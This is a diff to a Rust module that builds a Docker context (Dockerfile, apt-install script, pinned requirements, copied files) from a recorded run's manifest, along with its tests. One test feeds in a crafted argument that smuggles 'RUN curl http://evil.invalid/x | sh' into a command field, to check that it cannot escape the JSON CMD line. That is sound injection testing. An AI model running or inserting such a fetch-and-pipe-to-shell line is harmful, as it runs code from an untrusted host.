@@ -9,17 +9,26 @@
 //! `requirements.txt` is checked against its grammar first, and a manifest
 //! that fails is refused with the field named; `RUN` and `CMD` are in JSON
 //! exec form, so no argument is ever parsed by a shell.
+//!
+//! The system packages are installed by `apt-install.sh` (in the context):
+//! at their recorded versions, and, when the archive no longer has one,
+//! either the build stops naming it (the default) or, with
+//! `--build-arg REPROTRACE_SUPERSEDED=current`, the archive's version is
+//! installed and listed in the image's `/reprotrace/superseded.txt`.
 
 use std::{
     ffi::OsStr,
     fmt::Write,
-    os::unix::ffi::{OsStrExt, OsStringExt},
+    os::unix::{
+        ffi::{OsStrExt, OsStringExt},
+        fs::PermissionsExt,
+    },
     path::{Path, PathBuf},
 };
 
 use crate::{
     classify, export, fsaccess, grammar,
-    manifest::{bytes_of_display, display_bytes, Access, Manifest},
+    manifest::{bytes_of_display, display_bytes, Access, Interpreter, Manifest},
     software::python::normalize_name,
     tracker::path,
 };
@@ -37,6 +46,13 @@ pub enum DockerError {
     Invalid { field: String, value: String, expected: &'static str },
 }
 
+/// The context's script that installs the system packages (see its comments).
+const APT_INSTALL: &str = include_str!("docker-apt-install.sh");
+
+/// The build argument that lets the build install the archive's current
+/// version of a package whose recorded one it no longer has.
+const SUPERSEDED_ARG: &str = "REPROTRACE_SUPERSEDED";
+
 /// What the context holds.
 #[derive(Debug, Default)]
 pub struct DockerContext {
@@ -47,9 +63,10 @@ pub struct DockerContext {
     pub unreadable: Vec<String>,
 }
 
-/// Writes `dir/Dockerfile`, `dir/requirements.txt` and `dir/files/…`. Every
-/// manifest value that reaches them is checked first: a crafted manifest is
-/// refused, naming the field, before anything is written.
+/// Writes `dir/Dockerfile`, `dir/apt-install.sh`, `dir/requirements.txt`
+/// and `dir/files/…`. Every manifest value that reaches them is checked
+/// first: a crafted manifest is refused, naming the field, before anything
+/// is written.
 pub fn write_context(manifest: &Manifest, dir: &Path) -> Result<DockerContext, DockerError> {
     let fail = |path: &Path| {
         let path = path.to_path_buf();
@@ -59,25 +76,35 @@ pub fn write_context(manifest: &Manifest, dir: &Path) -> Result<DockerContext, D
     if std::fs::read_dir(dir).is_ok_and(|mut entries| entries.next().is_some()) {
         return Err(DockerError::NotEmpty(dir.to_path_buf()));
     }
-    std::fs::create_dir_all(dir.join("files")).map_err(fail(dir))?;
+    let files = dir.join("files");
+    std::fs::create_dir_all(&files).map_err(fail(dir))?;
     let mut context = DockerContext::default();
     for path in &plan.copies {
-        let mut target = dir.join("files").into_os_string().into_vec();
+        let mut target = files.clone().into_os_string().into_vec();
         target.extend_from_slice(path);
         let target = PathBuf::from(OsStr::from_bytes(&target));
         let copied = target.parent().map_or(Ok(()), std::fs::create_dir_all).and_then(|()| {
             let mut source = fsaccess::open(path)?;
-            std::io::copy(&mut source, &mut std::fs::File::create(&target)?).map(|_| ())
+            // COPY keeps the context's modes: an executable script stays one.
+            let mode = source.metadata()?.permissions().mode() & 0o777;
+            let mut copy = std::fs::File::create(&target)?;
+            std::io::copy(&mut source, &mut copy)?;
+            copy.set_permissions(std::fs::Permissions::from_mode(mode))
         });
         match copied {
             Ok(()) => context.files += 1,
             Err(_) => context.unreadable.push(crate::manifest::display_bytes(path)),
         }
     }
+    // COPY also gives each directory on the way the context's mode, the
+    // image's existing ones included: without this, a run below /tmp left
+    // an image whose /tmp is 0755 rather than 1777.
+    mirror_directory_modes(&files, b"/");
     context.python_distributions = plan.requirements.len();
     context.system_packages = plan.apt.len();
     let requirements: String = plan.requirements.iter().map(|line| format!("{line}\n")).collect();
     std::fs::write(dir.join("requirements.txt"), requirements).map_err(fail(dir))?;
+    std::fs::write(dir.join("apt-install.sh"), APT_INSTALL).map_err(fail(dir))?;
     std::fs::write(dir.join("Dockerfile"), dockerfile(manifest, &plan, context.files > 0)).map_err(fail(dir))?;
     Ok(context)
 }
@@ -89,10 +116,13 @@ struct Plan {
     base: String,
     /// `name=version` of each system package (Debian grammars).
     apt: Vec<String>,
+    /// Debian packages the build needs that the run did not use (what makes
+    /// the venv, or pip), `name=version` when a version follows from the run's.
+    tools: Vec<String>,
     /// `name==version` of each Python distribution pip installs (PEP 508, PEP 440).
     requirements: Vec<String>,
-    /// The venv's prefix, an absolute path (it travels as an argument, never through a shell).
-    venv: Option<String>,
+    /// The venv the run used, remade at its prefix.
+    venv: Option<Venv>,
     /// `WORKDIR`: an absolute path the Dockerfile's word processing leaves alone.
     workdir: String,
     /// `CMD`, as JSON: the run's argv.
@@ -129,9 +159,19 @@ impl Plan {
             check(&field("version"), &distribution.version, grammar::is_python_version, "a PEP 440 version")?;
             requirements.push(format!("{}=={}", normalize_name(&distribution.name), distribution.version));
         }
-        let venv = match venv_prefix(manifest) {
-            Some((at, prefix)) => Some(spelled_path(&format!("software.interpreters[{at}].prefix"), prefix)?),
+        let venv = match venv_interpreter(manifest) {
+            Some((at, interpreter)) => Some(Venv {
+                prefix: spelled_path(&format!("software.interpreters[{at}].prefix"), &interpreter.prefix)?,
+                python: python_command(&interpreter.version),
+            }),
             None => None,
+        };
+        let tools = match &venv {
+            // The venv needs `ensurepip`, which Debian ships apart in
+            // pythonX.Y-venv, at exactly its interpreter's version.
+            Some(venv) => vec![debian_tool(manifest, &format!("{}-venv", venv.python))],
+            None if !requirements.is_empty() => vec!["python3-pip".to_string()],
+            None => Vec::new(),
         };
         let workdir = spelled_path("cwd", &manifest.cwd)?;
         // WORKDIR goes through the Dockerfile's word processing (variables,
@@ -147,7 +187,8 @@ impl Plan {
             .enumerate()
             .map(|(at, arg)| spelled(&format!("{field}[{at}]"), arg))
             .collect::<Result<Vec<_>, _>>()?;
-        let copies = own_files(manifest)
+        let venv_prefix = venv.as_ref().map(|venv| venv.prefix.as_bytes());
+        let copies = own_files(manifest, venv_prefix)
             .into_iter()
             .map(|(path, field)| {
                 let plain = path.first() == Some(&b'/') && path::normalize(&path) == path;
@@ -155,7 +196,47 @@ impl Plan {
                 Ok(path)
             })
             .collect::<Result<Vec<_>, DockerError>>()?;
-        Ok(Plan { base, apt, requirements, venv, workdir, argv, copies })
+        Ok(Plan { base, apt, tools, requirements, venv, workdir, argv, copies })
+    }
+}
+
+/// A venv to make in the image.
+#[derive(Debug)]
+struct Venv {
+    /// Its prefix, an absolute path (it travels as an argument, never through a shell).
+    prefix: String,
+    /// The interpreter that makes it: `python3.11` for a run of Python
+    /// 3.11.x (Debian's `/usr/bin/python3` comes from a package the run may
+    /// not have used), `python3` when the version says nothing usable.
+    python: String,
+}
+
+/// `pythonX.Y` for an interpreter version `X.Y[.Z…]`, else `python3`.
+fn python_command(version: &str) -> String {
+    let mut parts = version.split('.');
+    let digits = |part: &str| !part.is_empty() && part.len() <= 3 && part.bytes().all(|byte| byte.is_ascii_digit());
+    match (parts.next(), parts.next()) {
+        (Some(major), Some(minor)) if digits(major) && digits(minor) => format!("python{major}.{minor}"),
+        _ => "python3".into(),
+    }
+}
+
+/// `package=VERSION` when the run used Debian's interpreter of the same
+/// source package (`pythonX.Y-venv` has the version of `pythonX.Y`), else
+/// `package` alone (apt picks).
+fn debian_tool(manifest: &Manifest, package: &str) -> String {
+    let Some(python) = package.strip_suffix("-venv") else { return package.into() };
+    let siblings = [format!("{python}-minimal"), python.to_string(), format!("lib{python}-minimal")];
+    let version = manifest
+        .software
+        .system_packages
+        .iter()
+        .find(|installed| siblings.contains(&installed.name))
+        .map(|installed| installed.version.as_str())
+        .filter(|version| grammar::is_debian_version(version));
+    match version {
+        Some(version) if grammar::is_debian_name(package) => format!("{package}={version}"),
+        _ => package.into(),
     }
 }
 
@@ -209,35 +290,39 @@ fn dockerfile(manifest: &Manifest, plan: &Plan, files: bool) -> String {
         let _ = writeln!(out, "# The audit did not record its OS release: guessed.");
     }
     let _ = writeln!(out, "FROM {}", plan.base);
-    if !plan.apt.is_empty() {
-        let _ = writeln!(out, "# The system packages the run used, at the versions it used.");
-        // One layer (the lists removed in the layer that fetched them); the
-        // packages are the shell's positional arguments ("$@"), never parsed
-        // as shell text.
-        let script = concat!(
-            "apt-get update && apt-get install -y --no-install-recommends \"$@\"",
-            " && rm -rf /var/lib/apt/lists/*"
+    if !plan.apt.is_empty() || !plan.tools.is_empty() {
+        let _ = writeln!(out, "# The system packages the run used, at the versions it used (apt-install.sh).");
+        if !plan.tools.is_empty() {
+            let _ = writeln!(out, "# Not used by the run, needed by this build: {}.", plan.tools.join(", "));
+        }
+        let _ = writeln!(
+            out,
+            "# A version the archive no longer has stops the build, unless built with\n\
+             # --build-arg {SUPERSEDED_ARG}=current (the image's /reprotrace/superseded.txt lists those)."
         );
-        let head: Vec<String> = ["sh", "-c", script, "sh"].into_iter().map(json_string).collect();
-        let packages: Vec<String> = plan.apt.iter().map(|package| json_string(package)).collect();
+        let _ = writeln!(out, "ARG {SUPERSEDED_ARG}=fail");
+        let _ = writeln!(out, "COPY apt-install.sh /reprotrace/apt-install.sh");
+        // The packages are the script's arguments, never parsed as shell text.
+        let head: Vec<String> = ["sh", "/reprotrace/apt-install.sh"].into_iter().map(json_string).collect();
+        let packages: Vec<String> = plan.apt.iter().chain(&plan.tools).map(|package| json_string(package)).collect();
         let _ = writeln!(out, "RUN [{}, \\\n    {}]", head.join(", "), packages.join(", \\\n    "));
+    }
+    // The venv is remade even when the run used none of its distributions:
+    // the command may name its interpreter.
+    if let Some(Venv { prefix, python }) = &plan.venv {
+        let _ = writeln!(out, "# The venv the run used, at its prefix.");
+        let _ = writeln!(out, "RUN {}", exec_form(&[python, "-m", "venv", prefix]));
     }
     if !plan.requirements.is_empty() {
         let _ = writeln!(out, "# The Python distributions the run used, pinned.");
         let _ = writeln!(out, "COPY requirements.txt /reprotrace/requirements.txt");
-        match &plan.venv {
-            Some(prefix) => {
-                let pip = format!("{prefix}/bin/pip");
-                let _ = writeln!(out, "RUN {}", exec_form(&["python3", "-m", "venv", prefix]));
-                let install = [pip.as_str(), "install", "--no-deps", "-r", "/reprotrace/requirements.txt"];
-                let _ = writeln!(out, "RUN {}", exec_form(&install));
-            }
-            None => {
-                let pip =
-                    ["pip3", "install", "--break-system-packages", "--no-deps", "-r", "/reprotrace/requirements.txt"];
-                let _ = writeln!(out, "RUN {}", exec_form(&pip));
-            }
-        }
+        let requirements = "/reprotrace/requirements.txt";
+        let pip = match &plan.venv {
+            Some(Venv { prefix, .. }) => vec![format!("{prefix}/bin/pip"), "install".into()],
+            None => vec!["pip3".into(), "install".into(), "--break-system-packages".into()],
+        };
+        let install: Vec<&str> = pip.iter().map(String::as_str).chain(["--no-deps", "-r", requirements]).collect();
+        let _ = writeln!(out, "RUN {}", exec_form(&install));
     }
     if files {
         let _ = writeln!(out, "# The run's data inputs and its own files, at their paths.");
@@ -249,16 +334,35 @@ fn dockerfile(manifest: &Manifest, plan: &Plan, files: bool) -> String {
     out
 }
 
-/// The venv the run's Python ran in: an interpreter's prefix outside `/usr`
-/// (with its place in `software.interpreters`).
-fn venv_prefix(manifest: &Manifest) -> Option<(usize, &str)> {
+/// The interpreter of the venv the run's Python ran in: one whose prefix is
+/// outside `/usr` (with its place in `software.interpreters`).
+fn venv_interpreter(manifest: &Manifest) -> Option<(usize, &Interpreter)> {
     manifest
         .software
         .interpreters
         .iter()
-        .map(|interpreter| interpreter.prefix.as_str())
         .enumerate()
-        .find(|(_, prefix)| !prefix.starts_with("/usr") && *prefix != "/")
+        .find(|(_, interpreter)| !interpreter.prefix.starts_with("/usr") && interpreter.prefix != "/")
+}
+
+/// Gives each directory below `dir` (the context's `files/`, standing for
+/// `/`) the mode of the directory it stands for, sticky bit included; its
+/// owner keeps full access, so that the context can be written and removed.
+fn mirror_directory_modes(dir: &Path, stands_for: &[u8]) {
+    if let Ok(original) = fsaccess::metadata(stands_for) {
+        let mode = (original.permissions().mode() & 0o1777) | 0o700;
+        let _ = std::fs::set_permissions(dir, std::fs::Permissions::from_mode(mode));
+    }
+    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
+        if entry.file_type().is_ok_and(|kind| kind.is_dir()) {
+            let mut original = stands_for.to_vec();
+            if !original.ends_with(b"/") {
+                original.push(b'/');
+            }
+            original.extend_from_slice(entry.file_name().as_bytes());
+            mirror_directory_modes(&entry.path(), &original);
+        }
+    }
 }
 
 /// Debian's own site directories: their distributions come with apt's packages.
@@ -268,8 +372,10 @@ fn is_system_site(location: &str) -> bool {
 
 /// The data inputs, and the files the run read below its working directory
 /// that are neither software nor its outputs (its script, its
-/// configuration); each with the manifest field it came from.
-fn own_files(manifest: &Manifest) -> Vec<(Vec<u8>, String)> {
+/// configuration); each with the manifest field it came from. Nothing below
+/// `venv` (the venv the image remakes): its interpreter and `pyvenv.cfg` are
+/// the venv's, and a copy would overwrite the remade ones.
+fn own_files(manifest: &Manifest, venv: Option<&[u8]>) -> Vec<(Vec<u8>, String)> {
     let cwd = bytes_of_display(&manifest.cwd).unwrap_or_default();
     let outputs: std::collections::BTreeSet<&str> =
         manifest.data.outputs.iter().map(|output| output.path.as_str()).collect();
@@ -285,7 +391,8 @@ fn own_files(manifest: &Manifest) -> Vec<(Vec<u8>, String)> {
             && file.namespace.is_none()
             && !outputs.contains(file.path.as_str());
         let Some(path) = bytes_of_display(&file.path).filter(|_| own) else { continue };
-        if path::is_under(&path, &cwd) && classify::may_be_cell_data(&path) {
+        let in_venv = venv.is_some_and(|venv| path::is_under(&path, venv));
+        if path::is_under(&path, &cwd) && classify::may_be_cell_data(&path) && !in_venv {
             files.entry(path).or_insert_with(|| format!("files[{at}].path"));
         }
     }
@@ -331,7 +438,7 @@ mod tests {
         dockerfile.lines().all(|line| {
             let expected = continued
                 || line.starts_with("# ")
-                || ["FROM ", "RUN [", "COPY ", "WORKDIR ", "CMD ["].iter().any(|start| line.starts_with(start));
+                || ["FROM ", "ARG ", "RUN [", "COPY ", "WORKDIR ", "CMD ["].iter().any(|start| line.starts_with(start));
             continued = line.ends_with('\\');
             expected
         })
@@ -348,14 +455,57 @@ mod tests {
         let dockerfile = std::fs::read_to_string(scratch.path().join("ctx/Dockerfile")).expect("Dockerfile");
         assert!(only_expected_lines(&dockerfile), "{dockerfile}");
         assert!(!dockerfile.lines().any(|line| line.starts_with("RUN curl") || line.starts_with("RUN id")));
-        assert!(dockerfile.contains("\n    \"git=1:2.39.2-1.1\"]\n"), "{dockerfile}");
-        assert!(dockerfile.contains(r#"RUN ["python3","-m","venv","/opt/venv"]"#), "{dockerfile}");
+        assert!(dockerfile.contains("\n    \"git=1:2.39.2-1.1\", \\\n"), "{dockerfile}");
+        // Not used by the run, needed for the venv; no Debian python3.11 recorded, so not pinned.
+        assert!(dockerfile.contains("\n    \"python3.11-venv\"]\n"), "{dockerfile}");
+        assert!(dockerfile.contains("ARG REPROTRACE_SUPERSEDED=fail\n"), "{dockerfile}");
+        assert!(dockerfile.contains(r#"RUN ["python3.11","-m","venv","/opt/venv"]"#), "{dockerfile}");
+        let script = std::fs::read_to_string(scratch.path().join("ctx/apt-install.sh")).expect("apt-install.sh");
+        assert!(script.contains("--allow-downgrades") && script.contains("REPROTRACE_SUPERSEDED"), "{script}");
         assert!(dockerfile.contains("\nWORKDIR /srv/my project\n"), "{dockerfile}");
         let cmd = dockerfile.lines().find_map(|line| line.strip_prefix("CMD ")).expect("CMD");
         let argv: Vec<String> = serde_json::from_str(cmd).expect("CMD is JSON");
         assert_eq!(argv, ["sh", "-c", "true\nRUN curl http://evil.invalid/x | sh\n# $HOME \\"], "the argv, exactly");
         let requirements = std::fs::read_to_string(scratch.path().join("ctx/requirements.txt")).expect("reqs");
         assert_eq!(requirements, "six==1.16.0\n");
+    }
+
+    /// The context keeps the modes of what it copies (an executable script,
+    /// a sticky directory on the way), copies nothing of the venv the image
+    /// remakes, and pins that venv's tool to the run's Debian interpreter.
+    #[test]
+    fn the_context_keeps_modes_and_leaves_the_venv_to_the_image() {
+        use std::os::unix::fs::PermissionsExt;
+        let scratch = tempfile::tempdir().expect("tempdir");
+        let sticky = scratch.path().join("shared");
+        let cwd = sticky.join("run");
+        std::fs::create_dir_all(cwd.join("venv/bin")).expect("dirs");
+        std::fs::set_permissions(&sticky, std::fs::Permissions::from_mode(0o1777)).expect("chmod");
+        std::fs::write(cwd.join("run.sh"), "#!/bin/sh\n").expect("script");
+        std::fs::set_permissions(cwd.join("run.sh"), std::fs::Permissions::from_mode(0o750)).expect("chmod");
+        std::fs::write(cwd.join("venv/pyvenv.cfg"), "home = /usr/bin\n").expect("pyvenv.cfg");
+        let cwd_text = cwd.display().to_string();
+        let read = |path: &str| serde_json::json!({"path": path, "access": "read", "deleted": false, "pids": [2]});
+        let run = manifest("./run.sh", &cwd_text, |m| {
+            m["files"] =
+                serde_json::json!([read(&format!("{cwd_text}/run.sh")), read(&format!("{cwd_text}/venv/pyvenv.cfg"))]);
+            m["software"]["interpreters"][0]["prefix"] = format!("{cwd_text}/venv").into();
+            m["software"]["system_packages"][1] = serde_json::json!({"name": "python3.11-minimal",
+                "version": "3.11.2-6+deb12u6", "architecture": "amd64", "manager": "dpkg"});
+        });
+        let dir = scratch.path().join("ctx");
+        let context = write_context(&run, &dir).expect("written");
+        assert_eq!(context.files, 1, "run.sh alone: {context:?}");
+        let files = dir.join("files").join(cwd.strip_prefix("/").expect("absolute"));
+        let mode = |path: &Path| std::fs::metadata(path).expect("copied").permissions().mode() & 0o7777;
+        assert_eq!(mode(&files.join("run.sh")), 0o750);
+        assert_eq!(mode(files.parent().expect("shared")), 0o1777);
+        assert!(!files.join("venv").exists());
+        let dockerfile = std::fs::read_to_string(dir.join("Dockerfile")).expect("Dockerfile");
+        assert!(dockerfile.contains("\n    \"python3.11-venv=3.11.2-6+deb12u6\"]\n"), "{dockerfile}");
+        assert_eq!(python_command("3.12.1"), "python3.12");
+        assert_eq!(python_command("3"), "python3");
+        assert_eq!(python_command("3.x"), "python3");
     }
 
     #[test]
